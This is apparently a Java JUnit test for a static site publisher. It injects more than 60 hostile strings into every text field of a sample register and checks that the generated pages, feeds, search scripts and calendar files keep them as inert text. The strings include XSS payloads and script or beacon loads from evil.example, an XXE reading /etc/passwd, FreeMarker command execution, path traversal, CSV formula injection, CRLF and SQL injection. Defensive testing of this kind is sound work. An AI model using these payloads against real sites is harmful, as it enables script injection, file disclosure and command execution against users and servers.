package org.consultum.publish;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import javax.xml.parsers.DocumentBuilderFactory;
import org.consultum.model.Register;
import org.consultum.model.RegisterPackage.Literals;
import org.consultum.samples.DicasSample;
import org.consultum.spi.Progress;
import org.eclipse.emf.ecore.EAttribute;
import org.eclipse.emf.ecore.EObject;
import org.eclipse.emf.ecore.EStructuralFeature;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Strings that attack in every text of a register: pages hold them as text and nothing runs, resolves or breaks. */
class HostileTextTest {

    private static final List<String> STRINGS = List.of("<script>alert(1)</script>", "\"><script src=//evil.example/x.js></script>",
        "'\"--></style></script><svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
        "[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](//evil.example)", "![x](http://evil.example/track.png)",
        "<a href=\"http://evil.example\" onclick=alert(1)>x</a>", "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content=0;url=http://evil.example>", "<link rel=stylesheet href=http://evil.example/x.css>",
        "<object data=http://evil.example>", "<embed src=http://evil.example>", "<form action=http://evil.example><button>x</button>",
        "<style>@import 'http://evil.example'</style>", "<body onload=alert(1)>", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</main></body></html>", "<!-- x", "--> x", "<![CDATA[ x ]]>", "]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "&lt;script&gt;", "&#60;script&#62;",
        "&#x202e;abc", "&nbsp;&copy;&amp;", "${7*7}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}", "#{7*7}",
        "{{7*7}}", "<%= 7*7 %>", "\\u003cscript\\u003e", "\u2028\u2029", "\u202Eevil\u202C", "\u0000\u0001\u0008", "\uD800", "\uDFFF x",
        "\uFEFF\u200B\u200D", "../../../etc/passwd", "..\\..\\windows", "C:\\windows\\x", "CON", "a/b\\c:d*e?f", "%2e%2e%2f",
        "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "\r\nSet-Cookie: a=b", "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
        "END:VCALENDAR", "x;VALUE=URI:http://evil.example", "\"});alert(1);({\"", "\\\"});alert(1)//", "</script><!--", "*/alert(1)/*",
        "'); DROP TABLE x;--", "| a | b |\n|---|:-:|\n| <b> | `x` |", "```\n</code></pre><script>alert(1)</script>\n```",
        "# heading\n\n> quote\n\n1. one\n   - two", "<details open ontoggle=alert(1)>", "javascript:alert(1)", "data:text/html,x",
        "\uD83D\uDE00 e\u0301 \u0130\u0131 \uFB01", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<p style=position:fixed;inset:0>x</p>",
        "<input autofocus onfocus=alert(1)>");

    private static final int LONGEST = 380;
    private static final Set<EStructuralFeature> KEPT = Set.of(Literals.ELEMENT__ID, Literals.REGISTER__FORMAT_VERSION,
        Literals.MARKING__LEVEL, Literals.PROFILE__MARKING_SCHEME, Literals.MARKING_LEVEL__CODE, Literals.RECIPIENT__NAME,
        Literals.RECIPIENT__LEVEL, Literals.AGENDA_VERSION_LINE__ITEM);
    private static final Pattern SAFE = Pattern.compile("(?:[A-Za-z0-9_-]+/)*[A-Za-z0-9_.-]+");

    private static final Pattern PART = Pattern.compile(
        "consultumSearch\\.(?:words\\(\"[0-9a-z]+\"|pages\\([0-9]+), (\\[.*])\\);\n", Pattern.DOTALL);

    @TempDir
    private Path folder;

    @Test
    void thereAreEnough() {
        assertTrue(Set.copyOf(STRINGS).size() >= 60, STRINGS.size() + " strings");
    }

    /** Groups of strings short enough for a title, so that every string is in every text of one of the sites. */
    private static List<String> groups() {
        var groups = new ArrayList<String>();
        var group = new StringBuilder();
        for (String string : STRINGS) {
            if (group.length() + string.length() > LONGEST) {
                groups.add(group.toString());
                group.setLength(0);
            }
            group.append(group.isEmpty() ? "" : " ").append(string);
        }
        groups.add(group.toString());
        return groups;
    }

    private static int poison(Register register, String text) {
        int[] poisoned = new int[1];
        var all = new ArrayList<EObject>(List.of(register));
        register.eAllContents().forEachRemaining(all::add);
        for (EObject object : all) {
            for (EAttribute attribute : object.eClass().getEAllAttributes()) {
                if (attribute.getEAttributeType().getInstanceClass() == String.class && !attribute.isMany() && !attribute.isDerived()
                    && attribute.isChangeable() && !KEPT.contains(attribute)
                    && !attribute.getEAttributeType().getName().equals("Sha256")) {
                    object.eSet(attribute, text);
                    poisoned[0]++;
                }
            }
        }
        return poisoned[0];
    }

    @Test
    void everyStringInEveryTextStaysText() throws Exception {
        var faults = new ArrayList<String>();
        int number = 0;
        for (String group : groups()) {
            Register register = DicasSample.create();
            assertTrue(poison(register, group) > 500);
            Path site = folder.resolve("site-" + number++);
            assertInstanceOf(PublicationResult.Written.class, new Publisher().write(SampleSite.publication(register,
                SampleSite.papers(folder), site, "en"), Progress.NONE), group);
            for (Map.Entry<String, byte[]> file : SampleSite.files(site).entrySet()) {
                if (!SAFE.matcher(file.getKey()).matches()) {
                    faults.add("name " + file.getKey());
                }
                check(file.getKey(), file.getValue(), faults);
            }
        }
        assertEquals(List.of(), faults.stream().distinct().limit(40).toList());
    }

    private static void check(String path, byte[] content, List<String> faults) throws Exception {
        String text = new String(content, StandardCharsets.UTF_8);
        if (path.endsWith(".html")) {
            page(path, Jsoup.parse(text), faults);
        } else if (path.endsWith(".xml")) {
            var factory = DocumentBuilderFactory.newInstance();
            factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            factory.newDocumentBuilder().parse(new ByteArrayInputStream(content));
        } else if (path.endsWith(".json")) {
            new ObjectMapper().readTree(content);
        } else if (path.startsWith("search/words-") || path.startsWith("search/pages-")) {
            var call = PART.matcher(text);
            assertTrue(call.matches(), path);
            new ObjectMapper().readTree(call.group(1));
            if (text.contains("<") || text.contains("\u2028")) {
                faults.add(path + " holds what ends a script");
            }
        } else if (path.endsWith(".ics")) {
            int begun = text.split("(?m)^BEGIN:VEVENT", -1).length;
            if (text.split("(?m)^END:VCALENDAR", -1).length != 2 || begun != text.split("(?m)^END:VEVENT", -1).length) {
                faults.add(path + " is broken up");
            }
        }
    }

    private static void page(String path, Document page, List<String> faults) {
        for (Element element : page.select("script:not([src]), script[src*=evil], style, iframe, object, embed, base, math, animate, "
            + "details, meta[http-equiv=refresh], link[href*=evil], img:not(.logo), form:not([action$=search.html]), input:not(#find), "
            + "[style]")) {
            String markup = element.outerHtml();
            faults.add(path.replaceFirst("/.*", "") + " has " + markup.substring(0, Math.min(120, markup.length())));
        }
        for (Element element : page.getAllElements()) {
            element.attributes().forEach(attribute -> {
                boolean runs = attribute.getKey().startsWith("on") || Set.of("href", "src", "action").contains(attribute.getKey())
                    && attribute.getValue().strip().toLowerCase().matches("(?s)(javascript|data|vbscript|file):.*|//.*");
                if (runs) {
                    faults.add(path + ": " + attribute);
                }
            });
        }
        if (page.select("main").size() != 1 || page.select("footer.site").size() != 1 || page.select("h1").size() != 1) {
            faults.add(path + " is broken up");
        }
    }

    @Test
    void pagesOfHostileTextsAreValid() throws Exception {
        var judge = new Judges.Html();
        var faults = new ArrayList<String>();
        int number = 0;
        for (String group : groups()) {
            Register register = DicasSample.create();
            poison(register, group);
            Path site = folder.resolve("valid-" + number++);
            new Publisher().write(SampleSite.publication(register, SampleSite.papers(folder), site, "en"), Progress.NONE);
            var kinds = new ArrayList<String>();
            for (Map.Entry<String, String> page : SampleSite.pages(site).entrySet()) {
                String kind = page.getKey().replaceFirst("/.*", "");
                if (kinds.stream().filter(kind::equals).count() < 3) {
                    kinds.add(kind);
                    judge.faults(page.getValue()).forEach(fault -> faults.add(page.getKey() + ":" + fault));
                }
            }
        }
        assertEquals(List.of(), faults.stream().limit(30).toList());
    }

    @Test
    void namesOfFilesFollowNoText() throws Exception {
        Register register = DicasSample.create();
        register.getCommittees().forEach(committee -> {
            committee.setSlug("../../" + committee.getSlug());
            committee.getMeetings().forEach(meeting -> meeting.setSlug("CON/../.."));
        });
        SampleSite.write(register, folder.resolve("inner/site"), "en", Files.createDirectories(folder.resolve("inner/papers")));
        assertTrue(SampleSite.files(folder.resolve("inner/site")).keySet().stream().allMatch(path -> SAFE.matcher(path).matches()));
        assertEquals(Set.of("papers", "site"), Set.of(folder.resolve("inner").toFile().list()));
    }
}
